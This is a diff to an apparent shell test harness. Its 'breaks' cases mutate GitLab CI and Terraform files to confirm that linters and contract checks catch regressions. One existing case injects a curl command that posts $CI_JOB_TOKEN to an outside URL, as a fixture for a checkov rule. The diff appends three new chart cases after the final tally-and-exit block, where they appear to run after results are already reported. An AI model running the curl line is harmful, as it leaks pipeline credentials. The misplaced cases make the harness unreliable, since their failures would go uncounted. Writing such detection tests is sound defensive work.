@@ -223,7 +223,7 @@ breaks "gitlab-ci: unsafe shell (gitlab-ci-verify/shellcheck)" 'gitlab-ci-verify
 breaks "gitlab-ci: token sent with curl (checkov CKV_GITLABCI_1)" 'checkov gitlab_ci' \
   'sub .gitlab-ci.yml "    - scripts/test.sh" "    - curl -d \"\$CI_JOB_TOKEN\" https://example.com/collect\n    - scripts/test.sh"'
 breaks "gitlab-ci: needs an unknown job (contract)" 'GitLab CI contract' \
-  'sub .gitlab-ci.yml "needs: [\"fmt-clippy\", \"deploy-checks\", \"test\"]" "needs: [\"fmt-clippy\", \"deploy-check\", \"test\"]"'
+  'sub .gitlab-ci.yml "needs: [\"fmt-clippy\", \"deploy-checks\", \"test\", \"sbom\"]" "needs: [\"fmt-clippy\", \"deploy-check\", \"test\", \"sbom\"]"'
 breaks "gitlab-ci: production deploys without a click (contract)" 'GitLab CI contract' \
   'sub .gitlab-ci.yml "      when: manual\n      allow_failure: true\n  resource_group: production\n  environment:\n    name: production\n    url:" "      when: on_success\n  resource_group: production\n  environment:\n    name: production\n    url:"'
 
@@ -589,3 +589,9 @@ if [ "$KO" -gt 0 ]; then
   printf 'not caught: %s\n' "${KO_NAMES[@]}"
   exit 1
 fi
+breaks "charts: the Load Balancer Controller unpinned" 'charts by Terraform' \
+  'sub terraform/modules/cluster-addons/main.tf "  version    = var.chart_versions[\"aws_load_balancer_controller\"]\n" ""'
+breaks "charts: the autoscaler's image of another Kubernetes" 'charts by Terraform' \
+  'sub terraform/modules/cluster-addons/variables.tf "  default     = \"v1.35.0\"" "  default     = \"v1.31.0\""'
+breaks "charts: installed by hand again" 'charts by Terraform' \
+  'append docs/DEPLOYMENT.md "helm upgrade --install metrics-server metrics-server/metrics-server -n kube-system"'
